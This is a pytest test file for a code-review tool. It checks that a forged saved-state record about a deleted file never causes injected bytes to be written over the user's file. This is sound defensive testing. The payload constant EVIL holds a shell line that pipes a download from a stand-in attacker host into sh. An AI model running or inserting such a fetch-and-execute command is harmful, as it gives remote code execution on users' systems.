"""Threat: a ``*.review.json`` naming what a deleted file was (``gone``, saved since QA s35).

A review saves, for a file deleted outside while it was open, what the file was before
(its original, what the review wrote, what the disk held), so that the file coming back
after a reopen reads as it would have with the review open. That record comes from the
state file, untrusted: it is read only when the session explains it (what the review wrote
is the draft over the named original at the decision named), and whatever it names, bytes
the user did not write and no operation makes never reach the disk.
"""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from hostile_statekit import accept_entry, forge_state, put_blob, write_markdown_session

from reviewtui.core.engine import Decision
from reviewtui.shell.loader import load_session
from reviewtui.shell.review import Review
from reviewtui.shell.state import op_fingerprint

EVIL = b"#!/bin/sh\ncurl evil.example | sh\n"


def _forged(arena: Any, *, ref: bytes, at: int = 1) -> Path:
    """A session editing a.txt ("a" -> "b"), its accept, and a deleted a.txt whose saved
    before-state names a forged original (``a`` + EVIL) and ``ref`` as what was written."""
    session = write_markdown_session(arena.work / "s.md", [[("a.txt", "a", "b")]])
    state = session.with_name(session.name + ".review.json")
    op = load_session(session).session.turns[0].reply.ops[0]
    base = put_blob(state, b"a\n" + EVIL)
    written = put_blob(state, ref)
    forge_state(state, log=[accept_entry(1, 0, "a.txt", op_fingerprint(op))],
                paths={"a.txt": {"base": None, "seen": None, "ref": None, "outside": True,
                                 "deleted": True,
                                 "gone": {"base": {"sha": base, "mode": 0o644},
                                          "seen": {"sha": written, "mode": 0o644},
                                          "ref": {"sha": written, "mode": 0o644},
                                          "at": at}}})
    return session


@pytest.mark.parametrize(("ref", "at"), [(b"b\n" + EVIL, 1), (b"b\n" + EVIL, 99),
                                         (b"x\n" + EVIL, 1), (b"b\n" + EVIL, 0)])
def test_a_forged_before_state_writes_nothing_the_user_did_not(
        arena: Any, ref: bytes, at: int) -> None:
    """The user makes a.txt again with their own bytes: whether or not the forged record
    fits the session (the first does: what it names as written is the draft over what it
    names as the original), the forged bytes never reach the disk, through a reject, its
    undo and redo."""
    session = _forged(arena, ref=ref, at=at)
    mine = b"mine\n"
    with Review.open(session, arena.root) as review:
        assert not (arena.root / "a.txt").exists()
        (arena.root / "a.txt").write_bytes(mine)
        review.outside_changed(["a.txt"])
        assert (arena.root / "a.txt").read_bytes() == mine
        review.decide((1, 0), Decision.reject())
        assert EVIL not in (arena.root / "a.txt").read_bytes()
        review.undo()
        assert EVIL not in (arena.root / "a.txt").read_bytes()
        review.redo()
        assert EVIL not in (arena.root / "a.txt").read_bytes()
        assert (arena.root / "a.txt").read_bytes() == mine  # the user's file stands


def test_a_before_state_the_session_does_not_explain_is_not_read(arena: Any) -> None:
    """What it names as written is not what the draft makes of what it names as the
    original: the record of the file before is dropped, and the file, made again with
    those very bytes, is a new file (its accept does not land on it)."""
    session = _forged(arena, ref=b"x\n" + EVIL)
    with Review.open(session, arena.root) as review:
        record = review._records["a.txt"]
        assert record.gone is None
        (arena.root / "a.txt").write_bytes(b"x\n" + EVIL)  # (as if put back)
        review.outside_changed(["a.txt"])
        assert review.base.get("a.txt") is not None
        assert hashlib.sha256((arena.root / "a.txt").read_bytes()).hexdigest() == \
            review.base.get("a.txt").digest  # taken as it is, nothing written over it


@pytest.mark.parametrize("present", [False, True])
def test_a_forged_layer_over_what_was_left_is_not_read(arena: Any, present: bool) -> None:
    """QA s35 helper-102 F1: a before-state whose disk and written bytes are the same,
    with an outside layer that adds EVIL: it was taken (the layer was never checked when
    the two were the same), and EVIL was written on top of the user's file with no key."""
    session = write_markdown_session(arena.work / "s.md", [[("a.txt", "a", "b")]])
    state = session.with_name(session.name + ".review.json")
    op = load_session(session).session.turns[0].reply.ops[0]
    a, b, evil = (put_blob(state, data) for data in (b"a\n", b"b\n", b"b\n" + EVIL))
    forge_state(state, log=[accept_entry(1, 0, "a.txt", op_fingerprint(op))],
                paths={"a.txt": {"base": None, "seen": None, "ref": None, "outside": True,
                                 "deleted": True,
                                 "gone": {"base": {"sha": a, "mode": 0o644},
                                          "seen": {"sha": b, "mode": 0o644},
                                          "ref": {"sha": b, "mode": 0o644}, "at": 1,
                                          "layer": {"ours": b, "theirs": evil}}}})
    if present:
        (arena.root / "a.txt").write_bytes(b"b\n")
    with Review.open(session, arena.root) as review:
        assert any("ignored what the saved review says a.txt was before it was deleted"
                   in p for p in review.state_problems)
        if not present:
            (arena.root / "a.txt").write_bytes(b"b\n")
            review.outside_changed(["a.txt"])
        assert (arena.root / "a.txt").read_bytes() == b"b\n"
        review.decide((1, 0), Decision.reject())
        assert EVIL not in (arena.root / "a.txt").read_bytes()
